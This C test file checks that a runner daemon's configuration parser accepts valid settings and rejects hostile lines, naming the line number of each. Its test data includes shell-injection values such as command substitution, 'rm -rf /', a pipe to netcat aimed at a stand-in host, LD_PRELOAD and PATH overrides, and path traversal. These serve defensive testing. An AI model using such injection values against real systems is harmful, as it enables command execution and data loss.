/*
 * test-conf.c: the runner's configuration file is parsed, never sourced:
 * good lines are accepted, and each hostile line is refused with its line
 * number named.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "runnerd.h"
#include "tap.h"

struct seen {
	char	key[64];
	char	val[600];
	int	n;
};

static int
set_cb(void *arg, const char *key, const char *val)
{
	struct seen *s = arg;

	snprintf(s->key, sizeof(s->key), "%s", key);
	snprintf(s->val, sizeof(s->val), "%s", val);
	s->n++;
	return ALX_OK;
}

static const char *hostile[] = {
	"NAME=$(reboot)",
	"NAME=`id`",
	"NAME=box;rm -rf /",
	"NAME=box|nc evil 1",
	"NAME=box&",
	"NAME=a>b",
	"NAME=a<b",
	"NAME=\"${HOME}\"",
	"NAME='$HOME'",
	"NAME=box\\",
	"PATH=/tmp/evil",
	"LD_PRELOAD=/tmp/x.so",
	"AWS_SECRET_ACCESS_KEY=abc",
	"name=lowercase-key",
	"NAME",
	"=value",
	"NAME=Box-Upper",
	"NAME=\"unterminated",
	"NAME='mixed\"",
	"NAME=two words",
	"CONCURRENCY=0",
	"CONCURRENCY=65",
	"CONCURRENCY=-1",
	"CONCURRENCY=010",
	"CONCURRENCY=4x",
	"SANDBOX=none",
	"WORK_ROOT=relative/path",
	"WORK_ROOT=/srv/../etc",
	"NETWORK=yes",
	"LABELS=gpu,,cpu",
	"LABELS=GPU",
	"PACKAGE_INDEX=ftp://mirror",
	"ENV_ALLOW=PATH;ID",
	"IMAGE=Ubuntu:Latest",
	"LOG_LEVEL=trace",
	"source /etc/profile",
	"NAME=box\x01",
	NULL
};

int
main(void)
{
	struct seen	 s;
	char		*cause = NULL, buf[256];
	const char	*good =
	    "# a comment\n"
	    "\n"
	    "NAME=gpu-box\n"
	    "export LABELS=gpu,cuda\n"
	    "  CONCURRENCY=4  \n"
	    "DESCRIPTION=\"8 cores, in the lab\"\n"
	    "WORK_ROOT='/srv/airlox-work'\n"
	    "NETWORK=off\n";
	int		 i, r;

	memset(&s, 0, sizeof(s));
	r = runner_conf_parse_buf(good, strlen(good), "runner.conf", set_cb,
	    &s, &cause);
	is_int(r, ALX_OK, "a good file parses");
	is_int(s.n, 6, "six settings");
	is_str(s.key, "NETWORK", "last key");
	free(cause);

	memset(&s, 0, sizeof(s));
	r = runner_conf_parse_buf(good, strlen(good), "runner.conf", set_cb,
	    &s, NULL);
	for (i = 0; hostile[i] != NULL; i++) {
		snprintf(buf, sizeof(buf), "# fine\nNAME=ok\n%s\n", hostile[i]);
		cause = NULL;
		r = runner_conf_parse_buf(buf, strlen(buf), "runner.conf",
		    set_cb, &s, &cause);
		ok(r != ALX_OK && cause != NULL &&
		    strncmp(cause, "runner.conf:3: ", 15) == 0,
		    "hostile line %d refused, line named (%s)", i + 1,
		    cause != NULL ? cause : "no message");
		free(cause);
	}
	ok(i >= 30, "at least 30 hostile lines (%d)", i);
	{
		char big[70000];
		memset(big, '#', sizeof(big) - 1);
		big[sizeof(big) - 1] = '\0';
		r = runner_conf_parse_buf(big, strlen(big), "runner.conf",
		    set_cb, &s, &cause);
		ok(r != ALX_OK, "an oversized file is refused");
		free(cause);
	}
	return tap_done();
}
